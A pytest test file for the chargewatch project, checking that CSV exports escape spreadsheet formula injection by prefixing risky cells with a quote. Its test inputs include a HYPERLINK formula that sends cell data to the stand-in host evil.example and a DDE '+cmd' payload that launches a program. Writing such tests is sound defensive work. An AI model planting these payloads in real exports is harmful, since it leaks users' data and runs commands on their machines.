"""Every CSV chargewatch writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chargewatch.cli import main
from chargewatch.collector.cdr_issuer import cdrs_csv
from chargewatch.core.spreadsheet import csv_text, safe_cell
from chargewatch.storage.ledger import Ledger
from tests.billing.test_ledger import records

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a plain number stays a number
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("CP-0001", "CP-0001"),
        ("", ""),
        (-4.5, -4.5),
        (None, None),
    ],
)
def test_formula_cells_are_neutralised_and_numbers_kept(cell: object, shown: object) -> None:
    assert safe_cell(cell) == shown


@given(st.text(max_size=30))
def test_no_cell_read_back_starts_a_formula_unless_it_is_a_number(text: str) -> None:
    (row,) = list(csv.reader(io.StringIO(csv_text(["h"], [[text]]), newline="")))[1:]
    cell = row[0]
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell)  # only plain numbers may start so


def test_session_export_and_cdr_csv_neutralise_charger_supplied_text(tmp_path: Path) -> None:
    rec = replace(records(1)[0], transaction_id="=1+2", id_tag=HYPERLINK)
    db = tmp_path / "l.db"
    with Ledger(db) as led:
        led.write([rec])
    out = tmp_path / "s.csv"
    assert (
        main(["sessions", "export", "--ledger", str(db), "--format", "csv", "--out", str(out)]) == 0
    )
    (row,) = csv.DictReader(io.StringIO(out.read_text()))
    assert row["transaction_id"] == "'=1+2"
    assert row["id_tag"] == "'" + HYPERLINK
    assert float(row["energy_wh"]) > 0

    text = cdrs_csv([{"id": "=cmd", "session_id": "@x", "total_cost": {"excl_vat": "-1.50"}}])
    (cdr,) = csv.DictReader(io.StringIO(text))
    assert (cdr["id"], cdr["session_id"], cdr["total_cost_excl_vat"]) == ("'=cmd", "'@x", "-1.50")
